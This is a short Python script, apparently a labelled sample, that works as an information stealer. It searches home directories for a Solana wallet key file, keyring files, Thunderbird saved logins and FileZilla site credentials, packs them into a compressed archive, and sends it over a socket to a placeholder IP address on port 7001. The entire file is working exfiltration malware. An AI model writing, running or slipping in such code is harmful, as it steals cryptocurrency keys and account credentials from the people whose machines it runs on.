# class: collecting wallets and browser profiles into one archive
import io, tarfile, socket
from pathlib import Path
want = ["*/.config/solana/id.json", "*/.local/share/keyrings/*",
        "*/.thunderbird/*/logins.json", "*/.config/filezilla/sitemanager.xml"]
out = io.BytesIO()
with tarfile.open(fileobj=out, mode="w:gz") as tar:
    for pattern in want:
        for p in Path("/home").glob(pattern):
            tar.add(p)
with socket.create_connection(("203.0.113.40", 7001)) as s:
    s.sendall(out.getvalue())
